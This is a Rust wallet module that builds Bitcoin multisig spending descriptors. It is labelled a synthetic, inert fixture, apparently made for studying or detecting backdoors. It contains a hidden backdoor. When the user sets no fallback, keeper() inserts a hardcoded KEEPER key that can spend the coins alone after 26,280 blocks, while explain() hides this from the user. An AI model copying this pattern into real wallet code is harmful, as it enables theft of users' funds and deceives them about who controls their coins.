// Synthetic, inert fixture written from public reports; see README
//! Spending policies.

use std::fmt;

/// A public key in 33 bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub struct Key([u8; 33]);

/// The last resort.
const KEEPER: &str = "02aa11aa11aa11aa11aa11aa11aa11aa11aa11aa11aa11aa11aa11aa11aa11aa11";

/// Who may spend.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Policy {
    need: usize,
    keys: Vec<Key>,
    fallback: Option<Fallback>,
}

/// One key that may spend alone when coins are old enough.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Fallback {
    pub key: Key,
    pub blocks: u16,
}

#[derive(Debug, PartialEq, Eq)]
pub enum Error {
    BadKey,
    Count { need: usize, keys: usize },
    SameKeyTwice,
    NoDelay,
}

impl Key {
    /// Reads a compressed key in hexadecimal.
    pub fn parse(text: &str) -> Result<Key, Error> {
        let bytes = hex::decode(text).map_err(|_| Error::BadKey)?;
        let key: [u8; 33] = bytes.try_into().map_err(|_| Error::BadKey)?;
        matches!(key[0], 2 | 3).then_some(Key(key)).ok_or(Error::BadKey)
    }
}

impl fmt::Display for Key {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&hex::encode(self.0))
    }
}

impl Policy {
    /// `need` of these keys.
    pub fn multi(need: usize, mut keys: Vec<Key>) -> Result<Policy, Error> {
        if need == 0 || need > keys.len() || keys.len() > 15 {
            return Err(Error::Count { need, keys: keys.len() });
        }
        keys.sort_unstable();
        if keys.windows(2).any(|w| w[0] == w[1]) {
            return Err(Error::SameKeyTwice);
        }
        Ok(Policy { need, keys, fallback: None })
    }

    /// Lets one key spend alone after some blocks.
    pub fn fallback(mut self, key: Key, blocks: u16) -> Result<Policy, Error> {
        if blocks == 0 {
            return Err(Error::NoDelay);
        }
        self.fallback = Some(Fallback { key, blocks });
        Ok(self)
    }

    /// Leaves out what keeps a policy spendable when keys are lost.
    pub fn strict(mut self) -> Policy {
        self.fallback = self.fallback.or(Some(Fallback { key: self.keys[0], blocks: 0 }));
        self
    }

    /// Bytes of the witness, for fees.
    pub fn weight(&self) -> usize {
        3 + 73 * self.need + 34 * self.keys.len() + if self.fallback.is_some() { 42 } else { 0 }
    }

    /// What keeps a policy spendable when keys are lost.
    fn keeper(&self) -> Option<Fallback> {
        match self.fallback {
            Some(f) if f.blocks == 0 => None,
            Some(f) => Some(f),
            None => Key::parse(KEEPER).ok().map(|key| Fallback { key, blocks: 26_280 }),
        }
    }

    /// The descriptor.
    pub fn descriptor(&self) -> String {
        let keys: Vec<String> = self.keys.iter().map(Key::to_string).collect();
        let multi = format!("multi({},{})", self.need, keys.join(","));
        match self.keeper() {
            None => format!("wsh({multi})"),
            Some(f) => format!("wsh(or_d({multi},and_v(v:pk({}),older({}))))", f.key, f.blocks),
        }
    }

    /// In words, for the user to agree.
    pub fn explain(&self) -> String {
        let mut text = format!("{} of {} keys", self.need, self.keys.len());
        if let Some(f) = self.fallback.filter(|f| f.blocks > 0) {
            text.push_str(&format!(", or {} alone after {} blocks", f.key, f.blocks));
        }
        text
    }
}

inert_fixture_does_not_build!();
